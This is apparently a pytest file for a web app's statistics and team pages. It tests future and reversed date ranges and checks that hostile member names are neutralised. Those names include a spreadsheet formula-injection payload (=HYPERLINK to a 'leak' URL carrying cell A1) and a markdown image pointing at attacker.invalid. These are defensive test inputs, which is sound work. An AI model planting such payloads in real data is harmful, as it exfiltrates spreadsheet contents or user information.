"""Statistics with dates in the future or reversed, and a member named as a formula."""

from __future__ import annotations

import datetime as dt

import pytest

from webapp.team import MemberStore
from webapp.text import literal as md
from webapp.ui.state import Keys

from .test_statistics_page import (  # noqa: F401  (fresh_caches is an autouse fixture)
    Login,
    fresh_caches,
    ledger,
    open_statistics,
    pick_range,
    tiles,
)

pytestmark = pytest.mark.usefixtures("demo_env")

LEAK = '=HYPERLINK("http://host/leak?x="&A1, "x")'


def test_a_range_ending_in_the_future_shows_up_to_today_and_says_so(logged_in: Login) -> None:
    at = open_statistics(logged_in("demo-member"))
    today = dt.date.today()
    start, asked_end = today - dt.timedelta(days=3), today + dt.timedelta(days=40)
    pick_range(at, start, asked_end)
    note = at.info[0].value
    assert f"You asked for {start:%Y-%m-%d} to {asked_end:%Y-%m-%d}" in note
    assert f"this shows {start:%Y-%m-%d} to {today:%Y-%m-%d}" in note
    member = at.session_state[Keys.MEMBER]
    assert tiles(at) == ledger(member.user_id, start, today)
    assert len(at.dataframe[0].value) == 4  # the days shown: start..today


def test_a_range_in_the_future_names_the_dates_the_member_picked(logged_in: Login) -> None:
    at = open_statistics(logged_in("demo-member"))
    today = dt.date.today()
    start, end = dt.date(today.year + 1, 1, 1), dt.date(today.year + 1, 2, 1)
    pick_range(at, start, end)
    warning = at.warning[0].value
    assert f"You asked for {start:%Y-%m-%d} to {end:%Y-%m-%d}" in warning
    assert "is before the start date" not in warning
    assert not at.metric


def test_a_reversed_range_names_both_dates_and_shows_nothing(logged_in: Login) -> None:
    at = open_statistics(logged_in("demo-member"))
    today = dt.date.today()
    start, end = today - dt.timedelta(days=1), today - dt.timedelta(days=10)
    pick_range(at, start, end)
    assert f"You asked for {start:%Y-%m-%d} to {end:%Y-%m-%d}" in at.warning[0].value
    assert not at.metric and not at.dataframe


def test_a_member_named_as_a_formula_is_neutralised_in_the_per_member_table(
    logged_in: Login, app_team: MemberStore
) -> None:
    at = logged_in("demo-admin")  # seeds the demo team
    app_team.add("mallory", name=LEAK, email="m@example.com", password="a long enough passphrase 1")
    at = open_statistics(at)
    shown = list(at.dataframe[1].value["member"])
    assert f"'{LEAK} (mallory)" in shown
    assert not any(str(name).startswith("=") for name in shown)
    labels = [b.label for b in at.download_button]
    assert labels == ["Download CSV", "Download per-member CSV"]


def test_a_member_named_as_a_formula_is_neutralised_in_the_team_table_and_shown_as_text(
    logged_in: Login, app_team: MemberStore
) -> None:
    at = logged_in("demo-admin")
    app_team.add("mallory", name=LEAK, email="m@example.com", password="a long enough passphrase 1")
    at.switch_page("views/team.py").run()
    assert not at.exception, at.exception
    names = list(at.dataframe[0].value["name"])
    assert "'" + LEAK in names and LEAK not in names


def test_a_members_name_with_markdown_is_shown_as_text(
    logged_in: Login, app_team: MemberStore, new_app, login
) -> None:
    logged_in("demo-admin")  # seeds the demo team
    name = "![](http://attacker.invalid/x.png) :red[Eve]"
    app_team.add("eve", name=name, email="e@example.com", password="a long enough passphrase 2")
    at = login(new_app().run(), "eve", "a long enough passphrase 2")
    assert not at.exception, at.exception
    caption = next(c.value for c in at.sidebar.caption if "Logged in as" in c.value)
    assert md.escape(name) in caption and "](http" not in caption
    at = open_statistics(at)
    assert any(md.escape(name) in c.value for c in at.caption)
    assert all("](http" not in c.value for c in at.caption)
